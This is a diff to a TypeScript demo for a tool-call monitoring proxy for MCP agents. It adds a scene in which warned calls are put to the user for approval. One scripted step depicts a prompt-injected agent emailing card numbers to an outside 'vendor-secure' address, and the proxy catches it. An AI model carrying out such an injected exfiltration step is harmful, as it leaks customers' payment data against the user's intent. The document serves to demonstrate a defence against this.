@@ -8,7 +8,7 @@ import { randomBytes } from "node:crypto";
 import { SignJWT } from "jose";
 import { Client } from "@modelcontextprotocol/sdk/client/index.js";
 import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
-import { McpError } from "@modelcontextprotocol/sdk/types.js";
+import { ElicitRequestSchema, McpError } from "@modelcontextprotocol/sdk/types.js";
 import { createDetector } from "../runtime/node/index.js";
 import { startProxy } from "../proxy/server.js";
 import { createLogger } from "../log.js";
@@ -31,6 +31,8 @@ type Step = { tool: string; args: Record<string, unknown> };
 /** The demo server, found from the source tree or the installed package. */
 export function demoServerPath(): string {
   let dir = dirname(fileURLToPath(import.meta.url));
+  // the installed package: bundled next to the CLI with the MCP SDK, which the package only has as an optional peer
+  if (existsSync(join(dir, "demo-server.js"))) return join(dir, "demo-server.js");
   for (let i = 0; i < 5; i++) {
     const p = join(dir, "examples", "demo-server", "server.mjs");
     if (existsSync(p)) return p;
@@ -81,10 +83,11 @@ export async function runDemo(flags: Flags, out: NodeJS.WritableStream = process
   const secret = randomBytes(32).toString("hex");
   let last: Decision | undefined;
   const lastDecision = (): Decision | undefined => last;
+  const detector = createDetector(config);
   const proxy = await startProxy({
     upstream: `"${process.execPath}" "${demoServerPath()}"`,
     stderr: "ignore",
-    detector: createDetector(config),
+    detector,
     auth: { jwtSecret: secret },
     logger: createLogger(flags.string("log-level") ?? "silent"),
     clock: () => now,
@@ -149,10 +152,55 @@ export async function runDemo(flags: Flags, out: NodeJS.WritableStream = process
     if (!strict && attackActions.block < steps) {
       say("Under the defaults a step that scores between 0.5 and 0.8 is warned: it runs, and is flagged for review.");
       say("For an agent that can reach customer data, block lower: toolwatch demo --strict (blockThreshold 0.6, minCalls 20).");
+      await askScene();
     }
   } finally {
     await client.close().catch(() => undefined);
     await proxy.close().catch(() => undefined);
   }
   return 0;
+
+  // Or ask instead of warning: the same baseline behind a proxy with `ask`, and a client that shows the
+  // question and answers it, once yes and once no.
+  async function askScene(): Promise<void> {
+    const ask = await startProxy({
+      upstream: `"${process.execPath}" "${demoServerPath()}"`, stderr: "ignore", detector, auth: { jwtSecret: secret },
+      logger: createLogger(flags.string("log-level") ?? "silent"), clock: () => now, ask: { fallback: "block" },
+    });
+    const answers = ["accept", "decline"] as const;
+    let asked = 0;
+    const user = new Client({ name: "demo-agent", version: "1.0.0" }, { capabilities: { elicitation: {} } });
+    user.setRequestHandler(ElicitRequestSchema, async (req) => {
+      const answer = answers[Math.min(asked++, answers.length - 1)]!;
+      say(c("36", "        the user is asked:"));
+      for (const line of (req.params as { message: string }).message.split("\n")) say(c("36", `        | ${line}`));
+      say(c("36", `        the user answers: ${answer}`));
+      return { action: answer };
+    });
+    try {
+      await user.connect(new StreamableHTTPClientTransport(new URL(ask.url), { requestInit: { headers: { authorization: `Bearer ${token}` } } }));
+      say("\nday 7: the same baseline, with ask (proxy.ask): a warned call waits for the user's answer");
+      now = start + 6 * 86_400_000 + 60 * 60_000;
+      const steps: Array<Step & { note: string }> = [
+        { note: "alice mails a new partner contact", tool: "send_email", args: { to: "dana@partner.example", subject: "kick-off", body: "agenda attached below" } },
+        { note: "an injected step mails payment data to an outside address", tool: "send_email", args: { to: "payments@vendor-secure.example", subject: "invoice", body: "card numbers ..." } },
+        { note: "alice mails the partner contact again: now her own habit, no question", tool: "send_email", args: { to: "dana@partner.example", subject: "status", body: "all green" } },
+      ];
+      for (const s of steps) {
+        now += 3 * 60_000;
+        say(c("2", `  # ${s.note}`));
+        try {
+          const r = await user.callTool({ name: s.tool, arguments: s.args });
+          say(`  ${stamp()}  ran: ${(r.content as Array<{ text?: string }>).map((x) => x.text ?? "").join(" ")}`);
+        } catch (err) {
+          if (!(err instanceof McpError)) throw err;
+          say(`  ${stamp()}  ${ACTION.block} ${err.message.slice(0, 110)}${err.message.length > 110 ? "..." : ""}`);
+          say(c("31", "        the call never reached the server"));
+        }
+      }
+    } finally {
+      await user.close().catch(() => undefined);
+      await ask.close().catch(() => undefined);
+    }
+  }
 }
